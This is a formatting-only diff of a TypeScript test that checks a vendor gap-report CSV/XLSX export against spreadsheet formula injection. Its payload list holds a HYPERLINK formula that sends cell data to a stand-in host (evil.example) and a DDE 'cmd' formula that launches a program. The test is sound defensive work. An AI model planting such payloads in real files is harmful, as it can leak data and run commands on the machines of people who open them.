@@ -9,7 +9,16 @@ import { gapReportToXlsx } from "./xlsx";
 // string in the export DTO (vendor name, tier, decision note, decided by, evidence title/kind/auditor,
 // gap title, detail, owner, service, citation, keys, even dates and enums a bug could fill with
 // text) is replaced by a formula payload, and no cell of the CSV or XLSX may start like a formula.
-const PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "＝1", "=cmd|' /C calc'!A0"];
+const PAYLOADS = [
+  '=HYPERLINK("http://evil.example/?d="&A1,"open")',
+  "+1+1",
+  "-2+3",
+  "@SUM(A1:A9)",
+  "\t=1",
+  "\r=1",
+  "＝1",
+  "=cmd|' /C calc'!A0",
+];
 const LIVE = /^[=+\-@\t\r\0\uFF1D\uFF0B\uFF0D\uFF20]/;
 
 /** The sample report with every string leaf replaced by a payload, and how many were replaced. */
@@ -33,7 +42,7 @@ function csvCells(text: string): string[] {
   for (let i = 0; i < text.length; i++) {
     const c = text[i];
     if (quoted) {
-      if (c === '"' && text[i + 1] === '"') (field += '"'), i++;
+      if (c === '"' && text[i + 1] === '"') ((field += '"'), i++);
       else if (c === '"') quoted = false;
       else field += c;
     } else if (c === '"') quoted = true;
